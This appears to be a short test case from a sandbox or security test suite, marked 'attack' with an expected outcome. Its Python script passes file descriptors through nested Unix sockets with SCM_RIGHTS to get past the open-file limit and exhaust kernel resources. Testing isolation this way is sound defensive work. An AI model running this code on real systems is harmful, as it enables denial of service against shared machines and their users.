# attack: hides descriptors in sockets that lie in sockets, past the limit on open files
# expect: ok
import array, os, socket

sent = 0
result = None
for _ in range(2000):
    left, right = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        for _ in range(200):
            some = [os.open("/dev/null", os.O_RDONLY) for _ in range(20)]
            try:
                left.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", some))], socket.MSG_DONTWAIT)
                sent += len(some)
            finally:
                for fd in some:
                    os.close(fd)
        right.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [left.fileno(), right.fileno()]))])
    except OSError as error:
        result = error.errno
        break
